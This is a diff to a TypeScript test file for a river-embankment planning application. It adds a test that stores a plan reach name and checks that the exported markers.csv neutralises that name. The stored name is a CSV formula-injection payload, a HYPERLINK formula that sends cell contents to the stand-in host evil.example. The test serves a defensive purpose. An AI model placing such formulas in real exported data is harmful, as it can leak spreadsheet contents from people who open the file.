@@ -12,16 +12,17 @@ const ACCOUNTS = {
   gaopu: testAccount('sp-gaopu', { role: 'chief', person: '高朴' }), // chief of city-01 钦江
 };
 type Who = keyof typeof ACCOUNTS;
+const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
 /** Two toe lines ±40 m around a 1 km reach near Qinzhou; `shift` moves it north (a new version). */
-function reach(shift: number): Feature[] {
+function reach(shift: number, name = 'QJ-A'): Feature[] {
   const toe = (role: string, dLat: number): Feature => ({
     type: 'Feature',
     geometry: {
       type: 'LineString',
       coordinates: [0, 1, 2, 3, 4].map((i) => [108.6 + i * 0.0025, 21.95 + shift + dLat]),
     },
-    properties: { reach: 'QJ-A', river: 'qinjiang', role, embankmentClass: 2, widthM: 30 },
+    properties: { reach: name, river: 'qinjiang', role, embankmentClass: 2, widthM: 30 },
   });
   return [toe('toe-left', 0.00036), toe('toe-right', -0.00036)];
 }
@@ -38,9 +39,9 @@ const move = (who: Who, to: StageId, comment?: string) =>
 const publish = (who: Who) =>
   app.call(who, 'POST', '/api/plans/city-01/publish', {}, { 'accept-language': 'en' });
 let saved = 0;
-async function save() {
+async function save(name?: string) {
   const res = await app.call('planner', 'PUT', '/api/plans/city-01/geometry', {
-    features: reach(saved * 0.001),
+    features: reach(saved * 0.001, name),
     baseVersion: saved,
   });
   expect(res.status, await res.clone().text()).toBe(201);
@@ -125,7 +126,7 @@ describe('the published version is the one the chief signed', () => {
     expect([noComment.status, (await json(noComment)).field]).toEqual([400, 'comment']);
     expect((await move('planner', 'field-check', '公告有误，需重新复核')).status).toBe(200);
     expect(await signOffs()).toMatchObject({ review: null, acceptance: null });
-    await save(); // version 5
+    await save(EVIL); // version 5, with a reach name that is a spreadsheet formula
     expect((await publish('planner')).status).toBe(409); // not at 成果文件制作与验收
     await advance(['review', 'deliverables']);
     expect(await signOffs()).toMatchObject({
@@ -136,5 +137,13 @@ describe('the published version is the one the chief signed', () => {
     const res = await publish('admin');
     expect(res.status, await res.clone().text()).toBe(201);
     expect(await json(res)).toMatchObject({ version: 5 });
+  });
+
+  it('markers.csv of that publication: the formula reach name is neutralised in every row', async () => {
+    const res = await app.call('planner', 'GET', '/api/plans/city-01/markers.csv');
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
   });
 });
